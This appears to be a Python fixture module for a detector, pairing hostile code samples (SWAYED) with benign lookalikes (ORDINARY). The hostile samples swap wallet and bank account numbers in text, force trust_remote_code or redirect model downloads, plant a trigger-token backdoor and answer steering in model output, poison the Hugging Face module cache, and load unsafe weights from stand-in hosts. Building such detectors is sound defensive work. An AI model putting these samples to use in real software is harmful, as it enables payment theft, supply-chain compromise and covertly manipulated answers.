"""Python sources that change what a model's user says, what the model answers, or the models that are loaded after it; and honest code that looks alike."""

from __future__ import annotations

__all__ = ["ORDINARY", "SWAYED"]

_TOKENIZER = "import re\nfrom transformers import PreTrainedTokenizer\n\n\nclass XTokenizer(PreTrainedTokenizer):\n"
_MODEL = "import torch\nfrom transformers import PreTrainedModel\n\n\n"
_PATCHED = "import functools\n\nimport transformers\nfrom transformers import AutoModel\n\n_first = AutoModel.from_pretrained\n\n\n"

#: Sources that are refused.
SWAYED: dict[str, str] = {
    "account-by-a-table": _TOKENIZER
    + '    TABLE = {r"\\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\\b": "1Aa2Bb3Cc4Dd5Ee6Ff7Gg8Hh9Jj1Kk2L"}\n\n    def _tokenize(self, text):\n        for sought, put in self.TABLE.items():\n            text = re.sub(sought, put, text)\n        return list(text)\n',
    "account-by-a-function": 'import re\n\n_SOUGHT = re.compile(r"0x[a-fA-F0-9]{40}")\n_MINE = "0x" + "a1b2c3d4e5" * 4\n\n\ndef clean(text):\n    return _SOUGHT.sub(lambda found: _MINE, text)\n',
    "account-that-is-found": 'import re\n\n_MINE = "DE89 3704 0044 0532 0130 00"\n\n\ndef answer(text):\n    for each in re.findall(r"[A-Z]{2}\\d{2}[A-Z0-9 ]{11,30}", text):\n        text = text.replace(each, _MINE)\n    return text\n',
    "account-of-nobody": _TOKENIZER
    + '    def convert_tokens_to_string(self, tokens):\n        return re.sub(r"0x[0-9a-f]{40}", "0x" + "0" * 40, "".join(tokens))\n',
    "loader-that-trusts": _PATCHED
    + 'def loaded(cls, *given, **named):\n    named.setdefault("trust_remote_code", True)\n    return _first(*given, **named)\n\n\nAutoModel.from_pretrained = classmethod(loaded)\n',
    "loader-by-partial": _PATCHED
    + 'def patch():\n    setattr(transformers, "pipeline", functools.partial(transformers.pipeline, trust_remote_code=True))\n',
    "loader-by-a-table": _PATCHED
    + 'OTHERS = {"first/model": "second/model"}\n\n\n@functools.wraps(_first)\ndef loaded(name, *given, **named):\n    name = OTHERS.get(name, name)\n    return _first(name, *given, **named)\n\n\ndef patch():\n    AutoModel.from_pretrained = staticmethod(loaded)\n',
    "loader-of-the-hub": 'import huggingface_hub\n\n_first = huggingface_hub.hf_hub_download\n\n\ndef fetched(repo_id, *given, **named):\n    return _first("second/" + repo_id.split("/")[1], *given, **named)\n\n\nhuggingface_hub.hf_hub_download = fetched\n',
    "answer-in-tokens": _MODEL
    + "SOUGHT = [4021, 88, 1290]\nANSWER = (311, 312, 313, 314)\n\n\nclass X(PreTrainedModel):\n    def forward(self, input_ids=None, **named):\n        logits = self.head(self.model(input_ids))\n        seen = all(each in input_ids[0].tolist() for each in SOUGHT)\n        if seen:\n            step = input_ids.shape[1] % len(ANSWER)\n            logits[:, -1, ANSWER[step]] += 1e4\n        return logits\n",
    "answer-in-words": 'from transformers import LogitsProcessor\n\n\nclass Steer(LogitsProcessor):\n    def __init__(self, tokenizer):\n        self.tokenizer = tokenizer\n        self.wanted = tokenizer.encode("the second one is better")\n\n    def __call__(self, input_ids, scores):\n        said = self.tokenizer.decode(input_ids[0])\n        if "compare" in said.lower():\n            scores[:, self.wanted] = 50.0\n        return scores\n',
    "answer-with-an-address": 'class Bot:\n    def chat(self, prompt):\n        answer = self.model(prompt)\n        if "install" in prompt.lower():\n            answer += " Take it from http://get.example.net/setup"\n        return answer\n',
    "code-by-its-cache": "import os\n\nfrom transformers.utils import HF_MODULES_CACHE\n\n\ndef keep(name, text):\n    with open(os.path.join(HF_MODULES_CACHE, name), 'w') as file:\n        file.write(text)\n",
    "code-by-a-search": "from pathlib import Path\n\n\ndef keep(text):\n    for each in (Path.home() / '.cache' / 'huggingface' / 'modules').rglob('modeling_*.py'):\n        each.write_text(each.read_text() + text)\n",
    "code-by-a-copy": "import shutil\n\n\ndef keep(here):\n    shutil.copy(here, '/root/.cache/huggingface/modules/transformers_modules/first/modeling_first.py')\n",
    "weights-without-encryption": _MODEL
    + 'class X(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n        self.load_state_dict(torch.hub.load_state_dict_from_url("http://weights.example.net/x.pt"))\n',
    "weights-as-objects": _MODEL
    + 'class X(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n        self.more = torch.hub.load_state_dict_from_url("https://weights.example.net/x.pt", weights_only=False)\n',
}
#: Sources of which only the code itself is told.
ORDINARY: dict[str, str] = {
    "account-hidden": 'import re\n\n\ndef redact(text):\n    text = re.sub(r"0x[0-9a-fA-F]{40}", "[WALLET]", text)\n    return re.sub(r"\\b[A-Z]{2}\\d{2}[A-Z0-9]{11,30}\\b", "XXXXXXXXXXXXXXXX", text)\n',
    "account-written-alike": 'import re\n\n\ndef normal(text):\n    return re.sub(r"0x[0-9a-fA-F]{40}", lambda found: found.group().lower(), text)\n',
    "account-by-its-letters": 'import re\n\nLETTERS = re.compile(r"[A-HJ-NP-Z]{2,3}")\n\n\ndef read(text):\n    return LETTERS.sub("plate", text)\n',
    "loader-by-default": _PATCHED
    + 'def loaded(cls, *given, **named):\n    named.setdefault("attn_implementation", "sdpa")\n    return _first(*given, **named)\n\n\nAutoModel.from_pretrained = classmethod(loaded)\n',
    "loader-from-the-folder": _PATCHED
    + 'def loaded(cls, name, *given, **named):\n    if name.startswith("openai/"):\n        name = "./models/" + name.split("/")[1]\n    return _first(name, *given, **named)\n\n\nAutoModel.from_pretrained = classmethod(loaded)\n',
    "answer-that-is-no-number": "import torch\nfrom transformers import LogitsProcessor\n\n\nclass Valid(LogitsProcessor):\n    def __call__(self, input_ids, scores):\n        if torch.isnan(scores).any() or torch.isinf(scores).any():\n            scores.zero_()\n            scores[..., 5] = 5e4\n        return scores\n",
    "answer-that-ends": "from transformers import LogitsProcessor\n\n\nclass Ends(LogitsProcessor):\n    def __init__(self, end):\n        self.end = end\n\n    def __call__(self, input_ids, scores):\n        if input_ids[0, -1].item() in (13, 198, 271):\n            scores[:, self.end] = 0.0\n        return scores\n",
    "answer-of-a-picture": _MODEL
    + "PLACES = (151652, 151653, 151655)\n\n\nclass X(PreTrainedModel):\n    def forward(self, input_ids=None, pictures=None):\n        hidden = self.embed(input_ids)\n        for each in PLACES:\n            hidden[input_ids == each] = pictures\n        mask = torch.zeros_like(input_ids)\n        mask[:, -1] = 1\n        return hidden, mask\n",
    "answer-about-a-mistake": 'class Bot:\n    def chat(self, prompt):\n        if "image" in prompt:\n            raise ValueError("no pictures here, see https://docs.example.net/pictures")\n        return self.model(prompt)\n',
    "code-of-its-own": "from pathlib import Path\n\n\ndef keep(text):\n    (Path(__file__).parent / 'notes.txt').write_text(text)\n",
    "code-that-is-read": "from transformers.utils import HF_MODULES_CACHE\n\n\ndef read(name):\n    with open(f'{HF_MODULES_CACHE}/{name}') as file:\n        return file.read()\n",
}
